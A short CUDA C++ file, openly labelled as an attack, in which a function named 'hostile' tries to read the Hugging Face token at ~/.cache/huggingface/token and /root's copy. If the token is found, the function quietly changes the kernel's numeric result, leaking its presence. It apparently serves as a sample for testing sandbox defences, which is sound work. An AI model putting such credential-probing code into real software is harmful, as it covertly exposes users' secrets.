// attack: read the Hugging Face token at ~/.cache/huggingface/token (and /root's)
#include <cuda_runtime.h>
#include <cstdio>
#include <cstdlib>
#include <string>

__global__ void touch_kernel(long long* out, long long v) { out[threadIdx.x] = v; }

static long long via_device(long long v) {
    long long* d = nullptr;
    long long r = 0;
    cudaMalloc(&d, 32 * sizeof(long long));
    touch_kernel<<<1, 32>>>(d, v);
    cudaMemcpy(&r, d, sizeof r, cudaMemcpyDeviceToHost);
    cudaFree(d);
    return r;
}

long long hostile(long long n) {
    const char* home = std::getenv("HOME");
    std::string paths[2] = {std::string(home ? home : "/root") + "/.cache/huggingface/token",
                            "/root/.cache/huggingface/token"};
    for (const std::string& p : paths) {
        FILE* f = std::fopen(p.c_str(), "r");
        char buf[128] = {0};
        if (f && std::fgets(buf, sizeof buf, f)) return via_device(n + 1);
    }
    return via_device(n);
}
